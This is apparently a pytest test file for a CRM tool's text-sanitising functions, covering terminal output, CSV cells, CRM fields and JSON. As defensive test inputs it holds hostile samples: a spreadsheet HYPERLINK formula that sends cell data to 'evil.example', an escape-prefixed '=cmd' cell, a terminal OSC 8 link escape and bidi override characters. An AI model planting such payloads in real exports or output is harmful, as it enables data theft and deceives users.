"""state/text.py: CRM text made safe for a terminal, a spreadsheet, a CRM field and a sentence."""

from __future__ import annotations

import json

import pytest

from crmsync.state import text


@pytest.mark.parametrize(
    ("crm_text", "shown"),
    [
        ("[/]", "[/]"),  # markup is not this module's business: rich Text keeps it literal
        ("\x1b]8;;http://evil\x07click\x1b]8;;\x07", "]8;;http://evilclick]8;;"),  # OSC 8 link
        ("\x1b[31mred\x1b[0m", "[31mred[0m"),  # CSI colour
        ("\x9b31mred", "31mred"),  # the one-byte C1 CSI
        ("Bob\u202eevil\u2066x\u2069\u200e\u200f\u061c", "Bobevilx"),  # bidi controls
        ("two\nlines\r\tand\x0bmore\u2028", "two lines  and more "),
        ("caf\u00e9 \u4e2d\u6587 \U0001f600 \u200d", "caf\u00e9 \u4e2d\u6587 \U0001f600 \u200d"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ],
)
def test_printable_shows_text_and_drops_controls(crm_text: str, shown: str) -> None:
    assert text.printable(crm_text) == shown


def test_printable_can_keep_newlines_for_multi_line_output() -> None:
    assert text.printable("a\x1b[2Jb\nc\rd", newlines=True) == "a[2Jb\nc d"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"open")', '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\x1b=cmd", "'=cmd"),  # an escape first cannot hide the formula
        ("plain, with \"quotes\"\nand lines", "plain, with \"quotes\"\nand lines"),
        ("a\u202eb", "ab"),
        (3, 3),
        (None, None),
    ],
)
def test_csv_cell_neutralises_formulas(cell: object, written: object) -> None:
    assert text.csv_cell(cell) == written


def test_clip_quotes_a_value_on_one_line_at_a_bounded_length() -> None:
    assert text.clip("Ada  Lovelace\n", 100) == "Ada Lovelace"
    assert text.clip("N" * 5_000, 100) == "N" * 99 + "\u2026"
    assert len(text.clip("x" * 10_000, text.TITLE_MAX)) == text.TITLE_MAX
    assert text.clip(None, 10) == ""


def test_fit_bounds_a_field_and_keeps_its_paragraphs() -> None:
    assert text.fit("a\n\nb", 10) == "a\n\nb"
    assert text.fit("a" * 40, 10) == "a" * 9 + "\u2026"


def test_clean_stored_removes_nul_and_says_so_without_the_value() -> None:
    assert text.clean_stored("Head\x00 of Sales") == ("Head of Sales", "NUL removed")
    assert text.clean_stored("clean") == ("clean", None)
    values = {"Title": "VP\x00", "Name": "Ada", "Score": 3}
    assert text.clean_fields(values) == [("Title", "NUL removed")]
    assert values == {"Title": "VP", "Name": "Ada", "Score": 3}


def test_for_crm_never_writes_a_nul_and_respects_a_length() -> None:
    assert text.for_crm("a\x00b") == "ab"
    assert text.for_crm("x" * 300, 255) == "x" * 254 + "\u2026"
    assert text.for_crm(3, 10) == 3


def test_json_safe_escapes_controls_json_leaves_raw_and_loses_nothing() -> None:
    data = {"name": "Bob\u202eevil\x9b31m\x7f\u2028"}
    dumped = text.json_safe(json.dumps(data, ensure_ascii=False))
    assert not any(ch in dumped for ch in "\u202e\x9b\x7f\u2028")
    assert json.loads(dumped) == data
